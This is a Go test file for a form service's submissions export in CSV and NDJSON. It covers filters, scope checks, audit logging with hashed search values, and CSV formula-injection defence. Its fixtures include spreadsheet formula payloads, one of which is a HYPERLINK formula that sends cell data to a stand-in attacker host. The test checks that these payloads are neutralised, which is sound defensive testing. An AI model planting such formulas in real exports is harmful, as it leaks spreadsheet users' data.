package features_test

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"net/http"
	"net/url"
	"time"

	. "github.com/onsi/ginkgo/v2"
	. "github.com/onsi/gomega"
)

var _ = Describe("Submissions archive export", func() {
	It("streams a form's archived submissions oldest first as CSV that reads back as submitted, formulas made inert, or as NDJSON, filtered, refused with a clear error, and recorded with its count", func() {
		f := shared
		db := f.OpenDB()
		lf := archivedLiveForm(f)
		ws := lf.Form["workspaceId"].(string)
		pdf := []byte("%PDF-1.4\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
		submit := func(pairs []string, files ...uploadPart) (id, requestID string) {
			GinkgoHelper()
			return submitArchived(f, db, lf, multipartBody(pairs, files...))
		}
		exportOf := func(token, query string) *Response {
			GinkgoHelper()
			return f.Get(token, "/v1/forms/"+lf.ID+"/submissions/export"+query)
		}
		readCSV := func(r *Response) [][]string {
			GinkgoHelper()
			Expect(r.Status).To(Equal(http.StatusOK), "%s", r)
			Expect(r.Header.Get("Content-Type")).To(Equal("text/csv; charset=utf-8"))
			Expect(r.Body).To(HavePrefix("\ufeff"), "a byte order mark for spreadsheet programs")
			records, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(r.Body, []byte("\ufeff")))).ReadAll()
			Expect(err).NotTo(HaveOccurred(), "%q", r.Body)
			return records
		}
		column := func(records [][]string, i int) (out []string) {
			for _, rec := range records[1:] {
				out = append(out, rec[i])
			}
			return out
		}

		By("three submissions whose values start like formulas, hold separators, quotes, line breaks and non-ASCII text")
		ada, bob, carl := UniqueEmail("export-ada"), UniqueEmail("export-bob"), UniqueEmail("export-carl")
		first, firstRequest := submit([]string{"email", ada, "name", `=HYPERLINK("http://evil.example/?"&A1,"click")`,
			"message", "Hello, \"world\"\nsecond line"},
			uploadPart{Field: "cv", Filename: "ada-cv.pdf", ContentType: "application/pdf", Data: pdf})
		second, _ := submit([]string{"email", bob, "name", "+49 30 1234", "phone", "-5", "message", "@SUM(A1)",
			"topic", "sales", "topic", "support"})
		third, _ := submit([]string{"email", carl, "name", "Zoë 東京 🚀", "message", "\t=1+1", "note", "\rcarriage"})

		By("CSV: the fixed columns, then the field names as they first appear, then the files; one row per submission, oldest first")
		r := exportOf(lf.Token, "?format=csv")
		records := readCSV(r)
		Expect(r.Header.Get("Content-Disposition")).To(MatchRegexp(`^attachment; filename="[a-z0-9-]+-\d{4}-\d{2}-\d{2}\.csv"`))
		Expect(r.Header.Get("Cache-Control")).To(Equal("private, no-store"))
		Expect(records[0]).To(Equal([]string{"submittedAt", "submissionId", "requestId", "email", "name", "message", "phone", "topic", "note", "attachments"}))
		Expect(records).To(HaveLen(4))
		Expect(column(records, 1)).To(Equal([]string{first, second, third}))
		Expect(records[1][2]).To(Equal(firstRequest))
		_, err := time.Parse(time.RFC3339, records[1][0])
		Expect(err).NotTo(HaveOccurred())

		By("every value reads back as submitted, a cell a spreadsheet would take for a formula led by a quote")
		Expect(records[1][3:]).To(Equal([]string{ada, `'=HYPERLINK("http://evil.example/?"&A1,"click")`, "Hello, \"world\"\nsecond line", "", "", "", "ada-cv.pdf"}))
		Expect(records[2][3:]).To(Equal([]string{bob, "'+49 30 1234", "'@SUM(A1)", "'-5", "sales, support", "", ""}),
			"a field given twice is one cell, its values joined with a comma")
		Expect(records[3][3:]).To(Equal([]string{carl, "Zoë 東京 🚀", "'\t=1+1", "", "", "'\rcarriage", ""}))

		By("from and to bound the export by when submissions were accepted")
		listed := f.Get(lf.Token, "/v1/forms/"+lf.ID+"/submissions")
		Expect(listed.Status).To(Equal(http.StatusOK), "%s", listed)
		secondAt := listed.JSON["submissions"].([]any)[1].(map[string]any)["submittedAt"].(string)
		Expect(column(readCSV(exportOf(lf.Token, "?format=csv&from="+url.QueryEscape(secondAt))), 1)).To(Equal([]string{second, third}))
		before := readCSV(exportOf(lf.Token, "?format=csv&to="+url.QueryEscape(secondAt)))
		Expect(column(before, 1)).To(Equal([]string{first}))
		Expect(before[0][3:]).To(Equal([]string{"email", "name", "message", "attachments"}), "the columns are those of the exported range")
		Expect(column(readCSV(exportOf(lf.Token, "?format=csv&email="+url.QueryEscape(bob))), 1)).To(Equal([]string{second}))
		Expect(readCSV(exportOf(lf.Token, "?format=csv&from=2000-01-01&to=2000-01-02"))).To(Equal([][]string{{"submittedAt", "submissionId", "requestId", "attachments"}}))

		By("NDJSON: one object a line, the same keys, values as submitted")
		nd := exportOf(lf.Token, "?format=ndjson")
		Expect(nd.Status).To(Equal(http.StatusOK), "%s", nd)
		Expect(nd.Header.Get("Content-Type")).To(Equal("application/x-ndjson"))
		Expect(nd.Header.Get("Content-Disposition")).To(MatchRegexp(`\.ndjson"`))
		var lines []map[string]any
		s := bufio.NewScanner(bytes.NewReader(nd.Body))
		for s.Scan() {
			var line map[string]any
			Expect(json.Unmarshal(s.Bytes(), &line)).To(Succeed(), "%s", s.Text())
			lines = append(lines, line)
		}
		Expect(lines).To(HaveLen(3))
		Expect(lines[0]).To(And(HaveKeyWithValue("submissionId", first), HaveKeyWithValue("requestId", firstRequest),
			HaveKeyWithValue("name", `=HYPERLINK("http://evil.example/?"&A1,"click")`), HaveKeyWithValue("attachments", "ada-cv.pdf"),
			Not(HaveKey("phone"))))
		Expect(lines[1]).To(And(HaveKeyWithValue("phone", "-5"), HaveKeyWithValue("topic", "sales, support"), Not(HaveKey("attachments"))))
		Expect(lines[2]).To(And(HaveKeyWithValue("message", "\t=1+1"), HaveKeyWithValue("note", "\rcarriage"), HaveKeyWithValue("name", "Zoë 東京 🚀")))

		By("bad parameters refused before the file starts, naming the parameter")
		ExpectError(exportOf(lf.Token, ""), http.StatusBadRequest, "format")
		ExpectError(exportOf(lf.Token, "?format=xlsx"), http.StatusBadRequest, "format")
		ExpectError(exportOf(lf.Token, "?format=csv&status=lost"), http.StatusBadRequest, "status")
		ExpectError(exportOf(lf.Token, "?format=csv&from=yesterday"), http.StatusBadRequest, "from")
		ExpectError(exportOf(lf.Token, "?format=csv&from=2026-02-01&to=2026-01-01"), http.StatusBadRequest, "from")
		ExpectError(exportOf(lf.Token, "?format=csv&field=topic"), http.StatusBadRequest, "value")

		By("scopes: a token without submissions:read refused, naming it; one with it exports")
		without := f.TokenWith(lf.Token, ws, scopesBut("submissions:read")...)
		ExpectError(exportOf(without.Secret, "?format=csv"), http.StatusForbidden, "submissions:read")
		reader := f.TokenWith(lf.Token, ws, "submissions:read")
		Expect(column(readCSV(exportOf(reader.Secret, "?format=csv&field=topic&value="+url.QueryEscape("sales, support"))), 1)).To(Equal([]string{second}))
		other := f.LiveForm(map[string]any{"allowedDomains": []string{"example.com"}})
		ExpectError(f.Get(other.Token, "/v1/forms/"+lf.ID+"/submissions/export?format=csv"), http.StatusNotFound)

		By("each export recorded once, with its format, its filters (a searched value as its hash) and how many rows it wrote")
		count := func(where string, args ...any) int {
			GinkgoHelper()
			return db.Int(`SELECT count(*) FROM submission_accesses WHERE form_id = $1 AND action = 'export' AND `+where, append([]any{lf.ID}, args...)...)
		}
		// 6 by the session (all, from, to, email, an empty range, NDJSON) and
		// 1 by the token; refusals export nothing and are not recorded.
		Expect(count(`true`)).To(Equal(7))
		Expect(count(`count IS NULL OR request_id = ''`)).To(BeZero())
		Expect(count(`filters = '{"format": "csv"}'::jsonb AND count = 3`)).To(Equal(1))
		Expect(count(`filters = '{"format": "ndjson"}'::jsonb AND count = 3`)).To(Equal(1))
		Expect(count(`filters ? 'from' AND NOT filters ? 'to' AND count = 2`)).To(Equal(1))
		Expect(count(`filters ? 'to' AND NOT filters ? 'from' AND count = 1`)).To(Equal(1))
		Expect(count(`filters->>'email' ~ '^[0-9a-f]{32}$' AND count = 1`)).To(Equal(1))
		Expect(count(`actor_type = 'token' AND filters->>'field' = 'topic' AND filters->>'value' ~ '^[0-9a-f]{32}$' AND count = 1`)).To(Equal(1))
		Expect(count(`count = 0`)).To(Equal(1))
		Expect(db.TablesHolding(bob)).To(BeEmpty(), "the address searched for is nowhere in the clear")
	})
})
